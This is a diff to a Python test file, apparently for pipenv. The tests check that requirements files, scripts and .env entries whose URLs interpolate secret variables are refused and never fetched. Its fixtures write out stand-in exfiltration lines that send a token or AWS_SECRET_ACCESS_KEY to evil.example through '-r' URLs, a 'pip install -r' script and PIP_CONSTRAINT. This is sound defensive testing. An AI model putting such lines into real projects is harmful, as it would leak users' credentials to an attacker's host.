@@ -236,7 +236,8 @@ def test_stray_variable_in_pieces(poisoned: Poisoned) -> None:
 @pytest.mark.parametrize("route", ["", "loopback", "as-written"])
 def test_requirements_file(route: str, poisoned: Poisoned) -> None:
     """For `install -r` pipenv gets no token: pip fills variables in such files, wherever they lead."""
-    poisoned.file("r.txt", f"x @ {STRAY}\n-r https://evil.example/more.txt\n")
+    poisoned.file("r.txt", f"x @ {STRAY}\n-r more.txt\n")
+    poisoned.file("more.txt", f"y @ {STRAY}\n")
     env = {"PIPENV_CA_ROUTE": route}
     for words in (("-r", "r.txt"), ("--requirements=r.txt",), ("-dr", "r.txt")):
         if route == "as-written":
@@ -245,6 +246,34 @@ def test_requirements_file(route: str, poisoned: Poisoned) -> None:
             poisoned.gets_no_token("install", *words, **env)
     if not route:
         poisoned.gets_no_token("install", "--req", "r.txt", CODEARTIFACT_AUTH_TOKEN=poisoned.token)
+
+
+@pytest.mark.parametrize("line", ["-r", "-c", "--requirement=", "six -r", "--constr"])
+@pytest.mark.parametrize("name", [TOKEN_VARIABLE, "AWS_SECRET_ACCESS_KEY"])
+def test_url_of_a_requirements_file(name: str, line: str, poisoned: Poisoned) -> None:
+    """No file is fetched from a URL that a project writes with a variable: it would get the value."""
+    poisoned.file("r.txt", f"{line} https://evil.example/${{{name}}}\n".replace("= ", "="))
+    poisoned.file(".env", "")
+    env = {TOKEN_VARIABLE: poisoned.token, "AWS_SECRET_ACCESS_KEY": "hush"}
+    for words in (("install", "-r", "r.txt"), ("run", "pip", "install", "-r", "r.txt")):
+        before = len(poisoned.world.requests)
+        poisoned.refused(*words, parts=("with a variable in it",), **env)
+        assert not [r for r in poisoned.world.requests[before:] if r.host == "evil.example"]
+
+
+def test_url_of_a_file_in_a_script(poisoned: Poisoned) -> None:
+    """Nor from one that a script, an assignment or .env names."""
+    url = f"https://evil.example/${{{TOKEN_VARIABLE}}}"
+    script = (
+        f'[scripts]\ndeps = "pip install -r {url}"\nmore = "PIP_CONSTRAINT={url} pip install six"\n'
+    )
+    poisoned.write(source(poisoned.world.endpoint), PRIVATE, script)
+    for name in ("deps", "more"):
+        poisoned.refused(
+            "run", name, parts=("with a variable in it",), CODEARTIFACT_AUTH_TOKEN=poisoned.token
+        )
+    poisoned.file(".env", "PIP_CONSTRAINT=https://evil.example/${AWS_SECRET_ACCESS_KEY}\n")
+    poisoned.refused("lock", parts=("with a variable in it",), AWS_SECRET_ACCESS_KEY="hush")
 
 
 FOLLOWED = (
